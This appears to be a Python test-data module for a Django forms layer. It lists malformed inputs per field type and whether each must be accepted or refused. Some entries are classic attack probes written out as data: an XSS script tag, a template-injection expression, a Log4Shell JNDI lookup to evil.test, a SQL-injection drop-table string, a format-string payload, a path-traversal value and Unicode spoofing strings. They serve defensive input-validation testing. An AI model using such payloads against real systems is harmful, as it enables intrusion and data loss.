"""Bad inputs for every kind of field, and what must become of them."""

from collections.abc import Iterator
from dataclasses import dataclass

from django import forms as plain

from wholeplace.doors.web.shell import forms

ACCEPTED = (
    "Gŵyl Llŷn a’r Tŵr", "O’Brien", "O'Brien", "Null", "True", "Ng", "👩🏽\u200d🚒 Fire", "<script>alert(1)</script>",
    "{{7*7}}", "${jndi:ldap://evil.test}", "%s%n", "'; drop table needs; --", "=HYPERLINK(1)",
)  # fmt: skip
HIDDEN = ("a\0b", "\ud800", "picture\u202egnp.exe", "\u200b", "\ufeff", "\u3164", "Â£5 cafÃ©", "x\ufffdx")
NUMBERS = (
    "1e5", "1_000", "１２３", "١٢٣", "NaN", "Infinity", "-Infinity", "1e999999", "(500)", "−500", "500-", "500 CR",
    "0.1+0.2", "1,00,0", "12,34", "9" * 5_000, "9223372036854775808", "twelve", "0x10", "1 000", "a\0b",
    "\ud800", "\u202e12",
)  # fmt: skip
DAYS = (
    ("1", "2", "25"), ("1", "1", "0001"), ("31", "12", "9999"), ("29", "2", "2025"), ("31", "4", "2025"),
    ("1", "1", "２０２５"),
    ("٣", "1", "2025"), ("0", "0", "0000"), ("1", "13", "2025"), ("1", "1", "1e3"), ("-1", "1", "2025"),
    ("1", "1", "9" * 5_000),
    ("a\0", "1", "2025"), ("1", "\ud800", "2025"), ("44927", "1", "2025"), ("1", "", "2025"),
)  # fmt: skip
ADDRESSES = (
    "a@[127.0.0.1]",
    "nam\u0435@example.org",
    "x" * 65 + "@example.org",
    "name@ex\u0430mple.org",
    "name",
    "a\0b@c.org",
)
CHOICES = ("zzzzzzzzzzzz", "a\0b", "\ud800", "1e5", "x" * 10_000, "../../etc/passwd", "__class__", "-1")


@dataclass(frozen=True)
class Bad:
    """Something sent in a field: the parts of its widget, and whether it must be taken or refused."""

    sent: tuple[str, ...]
    is_taken: bool = False

    def of(self, name: str) -> dict[str, str]:
        """What the form then sends in this field."""
        if len(self.sent) == 1:
            return {name: self.sent[0]}
        return {f"{name}-{part}": text for part, text in zip(("day", "month", "year"), self.sent, strict=True)}


def bad_for(field: plain.Field) -> Iterator[Bad]:
    """What is tried in a field of this kind."""
    yield from (Bad(sent) for sent in _refused(field))
    if isinstance(field, forms.LineField | forms.TextField) and not isinstance(field, forms.EmailField):
        longest = getattr(field, "longest", None) or getattr(field, "max_length", None) or 10_000
        yield from (Bad((text,), is_taken=True) for text in ACCEPTED if len(text) <= longest)


def _refused(field: plain.Field) -> Iterator[tuple[str, ...]]:
    match field:
        case forms.MoneyField():
            yield from ((text,) for text in (*NUMBERS, "12.345", "0.005", "99999999999999.99"))
        case forms.WholeNumberField():
            yield from ((text,) for text in (*NUMBERS, "2.0", "1.5"))
        case forms.PercentField() | forms.FigureField():
            yield from ((text,) for text in (*NUMBERS, "0.123456"))
        case forms.DateField():
            yield from DAYS
        case forms.EmailField() | plain.EmailField():
            yield from ((text,) for text in ADDRESSES)
        case forms.LineField():
            yield from ((text,) for text in (*HIDDEN, "two\nlines", "x" * 1_000_000))
        case forms.TextField():
            yield from ((text,) for text in (*HIDDEN, "x" * 1_000_000, "x\n" * 10_000))
        case forms.ChoiceField() | forms.ChoicesField():
            yield from ((text,) for text in CHOICES)
